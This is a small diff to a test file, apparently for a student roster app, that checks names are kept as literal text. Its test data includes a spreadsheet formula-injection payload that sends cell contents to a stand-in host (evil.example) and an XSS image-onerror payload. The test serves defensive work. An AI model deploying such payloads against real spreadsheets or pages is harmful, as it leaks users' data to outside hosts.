@@ -55,9 +55,9 @@ describe.each(ZONES)('in %s', (zone) => {
   });
 });
 
-const WORDS = ['=IMPORTXML("http://evil.example/"&A1,"//a")', '<img src=x onerror=alert(1)>'];
+const WORDS = ['=IMPORTXML("http://evil.example/"&A1,"//a")', '<img src=x onerror=alert(1)>', 'TRUE'];
 
-test.each([...WORDS, '+1', '0012', 'TRUE', '3/4'])(
+test.each([...WORDS, '+1', '0012', '3/4'])(
   'a new student named %s, with that ID, is that text everywhere',
   (name) => {
     const host = setUp(install(smallRoster()));
